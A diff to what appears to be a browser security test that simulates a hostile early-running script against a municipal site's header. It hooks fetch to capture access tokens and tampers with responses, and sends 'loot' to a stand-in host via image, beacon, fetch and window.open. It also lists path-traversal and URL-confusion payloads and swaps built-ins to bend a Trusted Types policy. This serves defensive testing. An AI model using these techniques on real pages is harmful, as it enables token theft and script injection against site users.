@@ -2,8 +2,9 @@
  * A script that runs in the municipality's page before anything else does, and has read our sources.
  * It hooks what the header uses, then tries what it can think of; what came of each attempt is told to the test.
  */
-window.loot = { proofs: [], tokens: [], answers: [], violations: [] };
-addEventListener("securitypolicyviolation", ({ violatedDirective }) => loot.violations.push(violatedDirective));
+window.loot = { proofs: [], tokens: [], answers: [], violations: [], policies: {} };
+addEventListener("securitypolicyviolation", ({ effectiveDirective, blockedURI }) =>
+  loot.violations.push(`${effectiveDirective} ${blockedURI}`));
 
 const realFetch = window.fetch.bind(window);
 const makeKey = crypto.subtle.generateKey.bind(crypto.subtle);
@@ -15,8 +16,14 @@ window.fetch = async (address, request = {}) => {
   const { body } = answer.headers.get("content-type")?.includes("json") ? { body: await answer.clone().json() } : {};
   if (body?.access_token) loot.tokens.push(body.access_token);
   if (body?.data) loot.answers.push(body.data);
-  return answer;
+  if (!body?.data?.header || !loot.entries) return answer;
+  body.data.header.summary.entries = loot.entries;
+  return new Response(JSON.stringify(body), answer);
 };
+const realTypes = window.trustedTypes;
+Object.defineProperty(window, "trustedTypes", {
+  value: { createPolicy: (name, rules) => (loot.policies[name] = realTypes.createPolicy(name, rules)) },
+});
 
 const utf8 = (text) => new TextEncoder().encode(text);
 const base64url = (bytes) =>
@@ -73,6 +80,32 @@ const injected = (make) =>
     Promise.resolve(outcome(() => (make(script), document.head.append(script)))).then((said) => said && done(said));
     setTimeout(() => done("nothing came"), 3000);
   });
+
+/** Addresses that are no widget of the gateway, though some look like one. */
+const foreign = (gateway, elsewhere) => [
+  `${elsewhere}/evil.js`,
+  `${elsewhere}/header/widgets/a/b.js`,
+  `${gateway}/header/widgets/../../evil.js`,
+  `${gateway}/header/widgets/%2e%2e/%2E%2E/evil.js`,
+  `${gateway}/header/widgets/..\\..\\evil.js`,
+  `${gateway}/header/widgets/..\t/evil.js`,
+  `${gateway}/header/widgetsevil.js`,
+  `${gateway}/graphql`,
+  `${gateway}.evil.localhost/header/widgets/a/b.js`,
+  `${gateway.replace("//", "//me@")}/header/widgets/a/b.js`,
+  "//evil.localhost/header/widgets/a/b.js",
+  "/header/widgets/a/b.js",
+  "data:text/javascript,evil",
+  "javascript:evil",
+  "",
+];
+const letThrough = (text, kind = "createScriptURL") => {
+  try {
+    return Boolean(loot.policies["citizen-profile"][kind](text));
+  } catch {
+    return false;
+  }
+};
 
 /** Every attempt by its name in docs/security/header.md. */
 window.attempts = (gateway, elsewhere) => ({
@@ -155,25 +188,47 @@ window.attempts = (gateway, elsewhere) => ({
     await header.refresh();
     return [given, loot.proofs.filter(({ address }) => address.startsWith(elsewhere)).length];
   },
-  "send what it read to a server of its own": () => outcome(() => status(`${elsewhere}/?loot`, { method: "POST", mode: "no-cors", body: "x" })),
-  "load a script from elsewhere": () => injected((script) => (script.src = `${elsewhere}/evil.js`)),
+  "send what it read to a server of its own": () => {
+    new Image().src = `${elsewhere}/image?loot`;
+    navigator.sendBeacon(`${elsewhere}/beacon?loot`, "x");
+    return outcome(() => status(`${elsewhere}/fetch?loot`, { method: "POST", mode: "no-cors", body: "x" }));
+  },
+  "open a window whose address holds what it read": () => Boolean(open(`${elsewhere}/window?loot`)),
+  "load a script from elsewhere": () => injected((script) => (script.src = `${elsewhere}/evil.js?plain`)),
   "load one through a Trusted Types policy of its own": () =>
     injected((script) => {
-      const policy = trustedTypes.createPolicy("mine", { createScriptURL: (address) => address });
-      script.src = policy.createScriptURL(`${elsewhere}/evil.js`);
+      const policy = realTypes.createPolicy("mine", { createScriptURL: (address) => address });
+      script.src = policy.createScriptURL(`${elsewhere}/evil.js?mine`);
     }),
   "load one as a widget of the header": async () => {
     const before = new Set(document.scripts);
-    element().setAttribute("widgets", `notifications sha384-${"A".repeat(64)} ../../evil sha384-${"B".repeat(64)}`);
+    const { entries } = loot.answers.findLast((data) => data.header).header.summary;
+    const far = ["../../evil", "..", `${elsewhere}/evil.js?`].map((block) => ({ ...entries[0], block }));
     await element().closePanel();
-    await element().openPanel();
+    loot.entries = [...entries, ...far];
+    const pins = ["notifications sha384-../../../evil", "../../evil sha384-BBB", ".. sha384-CCC", `${elsewhere}/evil.js? sha384-DDD`];
+    element().setAttribute("widgets", pins.join(" "));
+    await element().refresh();
+    await outcome(() => element().openPanel());
     const added = [...document.scripts].filter((script) => !before.has(script));
-    return added.filter(({ src }) => !src.startsWith(`${gateway}/header/widgets/`)).length;
+    return added.map(({ src }) => src.replace(gateway, "").replace(encodeURIComponent(elsewhere), "ELSEWHERE")).sort();
   },
+  "have the header's own Trusted Types policy let another address through": () =>
+    foreign(gateway, elsewhere).filter((address) => letThrough(address)),
+  "have that policy make markup or a script": () => ["createHTML", "createScript"].filter((kind) => letThrough("evil", kind)),
+  "bend that policy by swapping built-ins, and load one": () =>
+    injected((script) => {
+      const [startsWith, RealURL] = [String.prototype.startsWith, URL];
+      String.prototype.startsWith = () => true;
+      window.URL = function (href) { return { href }; };
+      script.src = loot.policies["citizen-profile"].createScriptURL(`${elsewhere}/evil.js?bent`);
+      String.prototype.startsWith = startsWith;
+      window.URL = RealURL;
+    }),
 });
 
 function headerQuestion() {
   return loot.question ??= null;
 }
 
-Object.assign(window, { asked, outcome, headerQuestion });
+Object.assign(window, { asked, outcome, headerQuestion, letThrough });
